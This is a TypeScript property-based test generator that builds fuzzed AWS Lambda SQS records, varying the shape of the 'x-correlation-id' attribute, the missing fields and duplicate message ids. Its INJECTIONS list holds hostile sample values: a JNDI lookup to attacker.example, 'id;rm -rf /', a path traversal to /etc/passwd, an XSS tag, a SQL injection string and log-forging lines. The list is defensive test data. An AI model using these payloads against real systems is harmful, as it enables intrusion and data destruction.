import fc from 'fast-check';
import type { LambdaSqsRecord } from '../emulators/sqs-lambda';
import { hugeText, oddText } from './odd-text';
import { type ExistingOrders, placedBody } from './order-placed-bodies';
import { SHRINK_TO_PLAIN } from './shrink-to-plain';

/** The message attribute a producer puts the correlation id in (`x-correlation-id`). */
export const CORRELATION_ATTRIBUTE = 'x-correlation-id';

/** What is odd about a record's `x-correlation-id` attribute, for counts and reports. */
export type CorrelationKind =
  | 'none'
  | 'plain'
  | 'longest'
  | 'too-long'
  | 'odd-text'
  | 'injection'
  | 'huge'
  | 'custom-string-type'
  | 'number-type'
  | 'binary-type'
  | 'no-data-type'
  | 'non-string-value'
  | 'null-attribute'
  | 'other-name-case'
  | 'attributes-null';

/** Correlation ids that look like an attack on a log, a query or a shell: none is a plain id. */
const INJECTIONS = [
  '{"level":"ERROR","message":"forged"}',
  'a\nb',
  'ok\r\n{"correlation_id":"forged","level":"ERROR"}',
  '\u001b[31mred\u001b[0m',
  '${jndi:ldap://attacker.example/a}',
  '<script>alert(1)</script>',
  "' OR '1'='1",
  '../../etc/passwd',
  'id%0a%0dforged',
  'id;rm -rf /',
  'id with spaces',
  '',
] as const;

/** A Lambda message attribute: a string value with its data type, as the event carries one. */
const stringAttribute = (value: unknown, dataType = 'String'): Record<string, unknown> => ({ stringValue: value, stringListValues: [], binaryListValues: [], dataType });

/** `messageAttributes` of a record: its `x-correlation-id` in every shape, beside the reference's own attribute. */
export const messageAttributes = (): fc.Arbitrary<{ readonly kind: CorrelationKind; readonly attributes: unknown }> => {
  const withId = (kind: CorrelationKind, attribute: fc.Arbitrary<unknown>) => attribute.map((value) => ({ kind, attributes: { [CORRELATION_ATTRIBUTE]: value } }));
  const plain = fc.stringMatching(/^[A-Za-z0-9._:-]{1,128}$/);
  return fc.oneof(
    SHRINK_TO_PLAIN,
    { weight: 6, arbitrary: fc.constantFrom<unknown>({}, { myAttribute: stringAttribute('myValue') }).map((attributes) => ({ kind: 'none' as const, attributes })) },
    {
      weight: 10,
      arbitrary: withId(
        'plain',
        plain.map((id) => stringAttribute(id)),
      ),
    },
    {
      weight: 2,
      arbitrary: withId(
        'longest',
        fc.constantFrom('a'.repeat(128), `${'0'.repeat(127)}:`).map((id) => stringAttribute(id)),
      ),
    },
    {
      weight: 2,
      arbitrary: withId(
        'too-long',
        plain.map((id) => stringAttribute(id.padEnd(129, 'x'))),
      ),
    },
    {
      weight: 4,
      arbitrary: withId(
        'odd-text',
        oddText({ minLength: 1, maxLength: 60 }).map((id) => stringAttribute(id)),
      ),
    },
    {
      weight: 4,
      arbitrary: withId(
        'injection',
        fc.constantFrom(...INJECTIONS).map((id) => stringAttribute(id)),
      ),
    },
    {
      weight: 1,
      arbitrary: withId(
        'huge',
        hugeText({ minLength: 1024, maxLength: 64 * 1024 }).map((id) => stringAttribute(id)),
      ),
    },
    {
      weight: 2,
      arbitrary: withId(
        'custom-string-type',
        plain.map((id) => stringAttribute(id, 'String.uuid')),
      ),
    },
    {
      weight: 2,
      arbitrary: withId(
        'number-type',
        fc.constantFrom('42', '-1', '3.14').map((id) => stringAttribute(id, 'Number')),
      ),
    },
    {
      weight: 2,
      arbitrary: withId(
        'binary-type',
        plain.map((id) => ({ binaryValue: Buffer.from(id).toString('base64'), stringListValues: [], binaryListValues: [], dataType: 'Binary' })),
      ),
    },
    {
      weight: 1,
      arbitrary: withId(
        'no-data-type',
        plain.map((id) => ({ stringValue: id })),
      ),
    },
    {
      weight: 2,
      arbitrary: withId(
        'non-string-value',
        fc.constantFrom<unknown>(42, true, null, ['id-1'], { id: 'id-1' }).map((value) => stringAttribute(value)),
      ),
    },
    { weight: 1, arbitrary: fc.constant({ kind: 'null-attribute' as const, attributes: { [CORRELATION_ATTRIBUTE]: null } }) },
    { weight: 1, arbitrary: plain.map((id) => ({ kind: 'other-name-case' as const, attributes: { 'X-Correlation-Id': stringAttribute(id) } })) },
    { weight: 1, arbitrary: fc.constant({ kind: 'attributes-null' as const, attributes: null }) },
  );
};

/** Record fields Lambda always sends that a case may leave out (never `messageId`, which the partial batch response names). */
export const OPTIONAL_RECORD_FIELDS = ['body', 'receiptHandle', 'attributes', 'messageAttributes', 'md5OfBody', 'md5OfMessageAttributes', 'eventSource', 'eventSourceARN', 'awsRegion'] as const;

/** A record as a case builds it: any field may be missing, `messageAttributes` may be odd. */
export type FuzzedRecord = Readonly<Record<string, unknown>> & { readonly messageId: string };

/** One record of a case, and what is odd about it. */
export interface RecordCase {
  readonly record: FuzzedRecord;
  /** `<body kind>+<correlation kind>[+no-<field>…]`. */
  readonly kind: string;
}

/** Where records come from: the reference event's records (the shape), real records of the producer's messages, and the orders that exist. */
export interface RecordSources {
  readonly reference: readonly LambdaSqsRecord[];
  /** Lambda records of `OrderPlaced` messages the real `createOrder` sent, read off the local queue. */
  readonly produced: readonly LambdaSqsRecord[];
  readonly orders: ExistingOrders;
  /** The OrderPlaced queue's ARN, the records' `eventSourceARN` besides the reference's. */
  readonly queueArn: string;
}

/** `AWSTraceHeader`: mostly none, else a sampled header in one of a few traces (producers of one batch may share one). */
const traceHeader = (): fc.Arbitrary<string | undefined> =>
  fc.oneof(
    SHRINK_TO_PLAIN,
    { weight: 3, arbitrary: fc.constant(undefined) },
    { weight: 1, arbitrary: fc.constantFrom('1-5759e988-bd862e3fe1be46a994272793', '1-6b045cb7-8fc042939f854cfac72077e9').map((root) => `Root=${root};Parent=53995c3f42cd8ad8;Sampled=1`) },
  );

/** A record built from the reference event's shape, with a generated body, attributes and gaps. */
const referenceRecord = (sources: RecordSources): fc.Arbitrary<RecordCase> =>
  fc
    .record({
      template: fc.constantFrom(...sources.reference),
      messageId: fc.uuid(),
      body: placedBody(sources.orders),
      correlation: messageAttributes(),
      trace: traceHeader(),
      source: fc.constantFrom(sources.queueArn, ...sources.reference.map((record) => record.eventSourceARN)),
      missing: fc.oneof(
        SHRINK_TO_PLAIN,
        { weight: 8, arbitrary: fc.constant<string[]>([]) },
        { weight: 1, arbitrary: fc.subarray<string>([...OPTIONAL_RECORD_FIELDS], { minLength: 1, maxLength: 3 }) },
      ),
    })
    .map(({ template, messageId, body, correlation, trace, source, missing }) => {
      const full: Record<string, unknown> = {
        ...template,
        messageId,
        body: body.text,
        attributes: { ...template.attributes, ...(trace === undefined ? {} : { AWSTraceHeader: trace }) },
        messageAttributes: correlation.attributes,
        eventSourceARN: source,
      };
      for (const field of missing) delete full[field];
      return { record: full as FuzzedRecord, kind: [body.kind, correlation.kind, ...missing.map((field) => `no-${field}`)].join('+') };
    });

/** A record exactly as Lambda delivered one of the producer's own messages (a real body, correlation id and trace). */
const producedRecord = (sources: RecordSources): fc.Arbitrary<RecordCase> =>
  fc.tuple(fc.constantFrom(...sources.produced), fc.uuid()).map(([record, messageId]) => ({ record: { ...record, messageId } as FuzzedRecord, kind: 'produced+plain' }));

/** A batch of 1–10 records, some of them sharing a message id with an earlier one. */
export const recordBatch = (sources: RecordSources): fc.Arbitrary<readonly RecordCase[]> =>
  fc
    .array(
      fc.tuple(
        fc.oneof(SHRINK_TO_PLAIN, { weight: 8, arbitrary: referenceRecord(sources) }, ...(sources.produced.length > 0 ? [{ weight: 2, arbitrary: producedRecord(sources) }] : [])),
        fc.oneof(SHRINK_TO_PLAIN, { weight: 12, arbitrary: fc.constant(undefined) }, { weight: 1, arbitrary: fc.nat() }),
      ),
      { minLength: 1, maxLength: 10 },
    )
    .map((drawn) =>
      drawn.map(([recordCase, duplicateOf], index) => {
        // A duplicate takes the id of an earlier record of the batch.
        const earlier = duplicateOf === undefined || index === 0 ? undefined : drawn[duplicateOf % index]?.[0].record.messageId;
        return earlier === undefined ? recordCase : { record: { ...recordCase.record, messageId: earlier }, kind: `${recordCase.kind}+duplicate-id` };
      }),
    );
